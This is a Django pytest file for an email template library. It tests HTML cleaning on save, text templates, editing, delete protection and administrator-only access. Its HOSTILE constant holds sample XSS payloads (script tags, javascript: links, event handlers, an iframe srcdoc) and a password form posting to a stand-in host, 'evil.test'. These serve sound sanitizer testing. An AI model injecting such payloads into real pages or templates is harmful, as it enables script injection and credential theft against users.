"""The template library in the product: added, edited, HTML cleaned when saved, deleted only
when no rule sends it; administrators only."""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client

from mailroom.models import AutoResponseRule, EmailTemplate
from tests.pipeline.helpers import mailbox as make_mailbox

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<p onclick="steal()">Hello {{ sender_name }}</p><script>alert(1)</script>'
    '<a href="javascript:alert(2)">x</a><a href="https://example.test/case/{{ case_number }}">'
    'your case</a><form action="https://evil.test"><input name="pw"></form>'
    '<img src="https://example.test/logo.png" onerror="alert(3)">'
    '<iframe srcdoc="<script>alert(4)</script>"></iframe><svg onload="alert(5)"></svg>'
)


@pytest.fixture
def admin() -> Client:
    client = Client()
    client.force_login(User.objects.create_superuser("root", "root@example.test", "pw"))
    return client


def _post(texts: list[tuple[str, str, str]], **fields: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "name": "Welcome",
        "type": "text",
        "default_language": "en",
        "texts-TOTAL_FORMS": str(len(texts)),
        "texts-INITIAL_FORMS": "0",
        "save": "1",
    }
    for i, (language, subject, body) in enumerate(texts):
        data |= {
            f"texts-{i}-language": language,
            f"texts-{i}-subject": subject,
            f"texts-{i}-body": body,
        }
    return data | fields


def test_html_is_cleaned_when_saved_and_placeholders_survive(admin: Client) -> None:
    response = admin.post(
        "/templates/new/", _post([("en", "Re: {{ subject }}", HOSTILE)], type="html")
    )
    assert response.status_code == 302, response.content.decode()
    body = EmailTemplate.objects.get(name="Welcome").translations.get().body
    for gone in ("script", "onclick", "javascript:", "<form", "<input", "onerror", "iframe",
                 "svg", "alert"):  # fmt: skip
        assert gone not in body
    assert "Hello {{ sender_name }}" in body
    assert 'href="https://example.test/case/{{ case_number }}"' in body
    assert '<img src="https://example.test/logo.png">' in body


def test_a_text_template_is_kept_as_written(admin: Client) -> None:
    admin.post("/templates/new/", _post([("en", "Re", "a <b> is not markup here")]))
    assert EmailTemplate.objects.get().translations.get().body == "a <b> is not markup here"


def test_it_lists_edits_and_refuses_a_missing_default_text(admin: Client) -> None:
    admin.post(
        "/templates/new/",
        _post([("en", "Re: {{ subject }}", "Thanks"), ("de", "AW: {{ subject }}", "Danke")]),
    )
    template = EmailTemplate.objects.get()
    listing = admin.get("/templates/").content.decode()
    assert "Welcome" in listing and "de, en (default)" in listing
    response = admin.post(
        f"/templates/{template.pk}/", _post([("de", "AW", "Danke")], default_language="en")
    )
    assert "Write a text in en, or choose another default language." in response.content.decode()
    response = admin.post(
        f"/templates/{template.pk}/",
        _post([("de", "AW", "Danke")], default_language="de", name="Willkommen"),
    )
    assert response.status_code == 302
    template.refresh_from_db()
    assert template.name == "Willkommen"
    assert [t.language for t in template.translations.all()] == ["de"]


def test_a_template_a_rule_sends_is_not_deleted(admin: Client) -> None:
    admin.post("/templates/new/", _post([("en", "Re", "Thanks")]))
    template = EmailTemplate.objects.get()
    box = make_mailbox()
    AutoResponseRule.objects.create(mailbox=box, name="Ack", template=template)
    response = admin.post(f"/templates/{template.pk}/delete/", follow=True)
    assert "is not deleted" in response.content.decode() and f"{box.label}: Ack" in (
        response.content.decode()
    )
    assert EmailTemplate.objects.filter(pk=template.pk).exists()
    AutoResponseRule.objects.all().delete()
    admin.post(f"/templates/{template.pk}/delete/")
    assert not EmailTemplate.objects.exists()


def test_inline_responses_are_not_in_the_library(admin: Client) -> None:
    EmailTemplate.objects.create(name="Ack", in_library=False)
    assert admin.get(f"/templates/{EmailTemplate.objects.get().pk}/").status_code == 404
    assert "Ack" not in admin.get("/templates/").content.decode()


def test_only_administrators_see_the_library() -> None:
    client = Client()
    client.force_login(User.objects.create_user("agent"))
    for url in ("/templates/", "/templates/new/"):
        assert client.get(url).status_code == 404
    assert client.post("/templates/new/", _post([("en", "Re", "x")])).status_code == 404
    assert not EmailTemplate.objects.exists()
